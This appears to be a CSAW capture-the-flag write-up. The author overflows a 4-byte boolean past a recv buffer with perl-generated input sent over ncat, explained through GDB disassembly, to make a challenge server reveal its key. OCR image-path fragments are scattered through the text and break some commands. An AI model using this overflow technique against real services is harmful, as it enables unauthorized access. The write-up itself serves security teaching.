My previous experience with exploitation from the IO wargame on Smash the Stack led me to choose this challenge as my first target in the CSAWcompetition.

The challengetext is such:

nc 54321
Read the key out of ./key in the current working directory.

I/O Analysis

Okay, lets run the command and see what type response we get. Note: on my machine `nc’ is `ncat’ because I am using the version that comes with nmap:

$ ncat 54321
Wecome to my first CS project.
Please type your name:

I’ll take that misspelling as subtle humor. This seems pretty straight forward: we give the program a specially crafted input name and it gives us the key. Time to investigate the executable.

Binary Analysis: Preliminary$ file exploitation1-release
exploitation1-release: ELF 32-bit LSB executable, Intel 80386 ...

Nothing too interesting there, but I’m happy to see it’s 32 bit (and therefore runnable on my system). Next I use the `strings’ command to extract all the referenced text strings from the program:

$ strings exploitation1-release

I’ve only included the most important entries. It looks like the binary is accessing the key file, so we probably don’t have to do it. The calls to recv and strcmp are important because that’s where our input will be processed. The last string seems to be a big hint as to what we should type in. First, lets create a test key file:

$ echo "ABCDEFG" > key

Okay, lets start up the server and test our find:

$ ./exploitation1-release

and on a different terminal:

$ echo `perl -e "print 'A'x26"` | ncat 54321
Wecome to my first CS project.

Wow. That was simple. Lets try it on the flag server:

$ echo `perl -e "print 'A'x26"` | ncat 54321
Wecome to my first CS project.
Please type your name:

Well no joy there. It looks like the server has a different passphrase than our client. Now we need to start to debug. Before we jump in to the debugger, I want to stress test the program a little. Lets do some tests:

$ echo `perl -e "print 'B'x511"` | ncat 54321
Wecome to my first CS project.
Please type your name:

$ echo `perl -e "print 'B'x512"` | ncat 54321
Wecome to my first CS project.Please type your name: ABCDEFGBBB...BBB

$ echo `perl -e "print 'B'x2000"` | ncat 54321
Wecome to my first CS project.
Please type your name: ABCDEFGBBB...BBB
Ncat: Connection reset by peer.

That misspelled welcome is starting to annoy me. So we sent 511 B’s and nothing happened. 512, on the other hand yielded us the key and 2000 was not completely read by the program, causing an improper disconnect. At this point we could call it a day and move on, but I want to know why this worked.

Binary Analysis: GDB

Lets debug the server:

(gdb) set disassembly-flavor intel
(gdb) disas mainDump of assembler code for function main:
0x08048a56 <+0>:    push   ebp
0x08048b01 <+171>:    call   0x80487e0 <socket@plt>
0x08048bc9 <+371>:    call   0x80487c0 <listen@plt>
0x08048c70 <+538>:    call   0x8048700 <accept@plt>
0x08048ccb <+629>:    call   0x80486a0 <printf@plt>
0x08048cd0 <+634>:    call   0x8048790 <fork@plt>
0x08048cd5 <+639>:    mov    DWORD PTR [esp+0xf4],eax
0x08048cdc <+646>:    cmp    DWORD PTR [esp+0xf4],0x0
0x08048ce4 <+654>:    jne    0x8048d8a <main+820>
0x08048d74 <+798>:    mov    eax,DWORD PTR [esp+0xf8]
0x08048d7b <+805>:    mov    DWORD PTR [esp],eax
0x08048d7e<+808>:    call   0x804891d <handle>
0x08048dbf <+873>:    ret
End of assembler dump.

The server’s main function creates a listening socket and forks a new process when a connection is received. Handle is called for further processing on the new connection. Lets disassemble in chunks:

Allocates stack space for a buffer and a sets a boolean variable to false.

(gdb) disas handle
0x0804891d <+0>:    push   ebp
0x0804891e <+1>:    mov    ebp,esp
0x08048920 <+3>:    push   edi
0x08048921 <+4>:    push   ebx
0x08048922 <+5>:    sub    esp,0x220
0x08048928 <+11>:    mov    DWORD PTR [ebp-0xc],0x0

Sends the user the input prompt and receives the response.

0x08048965 <+72>:    call   0x8048830 <send@plt>
0x0804896a <+77>:    mov    DWORD PTR [esp+0xc],0x0
0x08048972 <+85>:    mov    DWORD PTR [esp+0x8],0x204
0x0804897a <+93>:    lea    eax,[ebp-0x20c]
0x08048980 <+99>:    mov    DWORD PTR [esp+0x4],eax
0x08048984 <+103>:    mov    eax,DWORD PTR [ebp+0x8]
0x08048987 <+106>:    mov    DWORD PTR [esp],eax
0x0804898a <+109>:    call   0x8048810 <recv@plt>

NULL terminates the end of the buffer and compares it to the passphrase.

0x0804898f <+114>:    mov    BYTE PTR [ebp-0xd],0x0
0x08048993 <+118>:    mov    DWORD PTR [esp+0x4],0x804b0780x0804899b <+126>:    lea    eax,[ebp-0x20c]
0x080489a1 <+132>:    mov    DWORDPTR [esp],eax
0x080489a4 <+135>:    call   0x8048690 <strcmp@plt>

Checks to see if strcmp returned 0. If it did, then do not jump and set the boolean variable to true. If the boolean is false, then jump to the end.

0x080489a9 <+140>:    test   eax,eax
0x080489ab <+142>:    jne    0x80489b4 <handle+151>
0x080489ad <+144>:    mov    DWORD PTR [ebp-0xc],0x1
0x080489b4 <+151>:    cmp    DWORD PTR [ebp-0xc],0x0
0x080489b8 <+155>:    je     0x8048a41 <handle+292>

If the boolean was true, read in the key from “./key” and send it to the user.

0x080489cf<+178>:    call   0x8048780 <fopen@plt>
0x080489f4 <+215>:    call   0x80486b0 <__isoc99_fscanf@plt>
0x08048a1c <+255>:    mov    DWORD PTR [esp+0xc],0x0
0x08048a24 <+263>:    mov    DWORD PTR [esp+0x8],0x200
0x08048a2c <+271>:    lea    eax,[ebp-0x20c]
0x08048a32 <+277>:    mov    DWORD PTR [esp+0x4],eax
0x08048a36 <+281>:    mov    eax,DWORD PTR [ebp+0x8]
0x08048a39 <+284>:    mov    DWORD PTR [esp],eax
0x08048a3c <+287>:    call   0x8048830 <send@plt>
0x08048a55 <+312>:    ret

The vulnerable code is at <+109>. The recv call reads in 4 more bytes than the buffer was allocated for, therefore overwriting the boolean (ebp-0xc) determining if the passphrase was correct. Lets see this in action:

(gdb) b *0x080489b4
Breakpoint 1 at 0x80489b4: file exploitation1-release.c, line 34.
(gdb) set follow-fork-mode child
(gdb) run
$ echo `perl -e "print 'A'x516"` | ncat 54321
(gdb) x/x $ebp-0xc
0xbfffed4c:    0x41414141

The 4 extra A’s have now overwritten $ebp-0xc.$ echo `perl -e "print 'A'x511"` | ncat 54321
(gdb) x/2x $ebp-0x10
0xbfffed48:    0x00414141    0x00000000Nothing happens. The program is safe.

$ echo `perl -e "print'A'x512"` | ncat 54321
(gdb) x/2x $ebp-0x10
0xbfffed48:    0x00414141    0x0000000a

On 512A’s, the new line that was read in from recv changed the boolean to true,therefore giving us access to the key.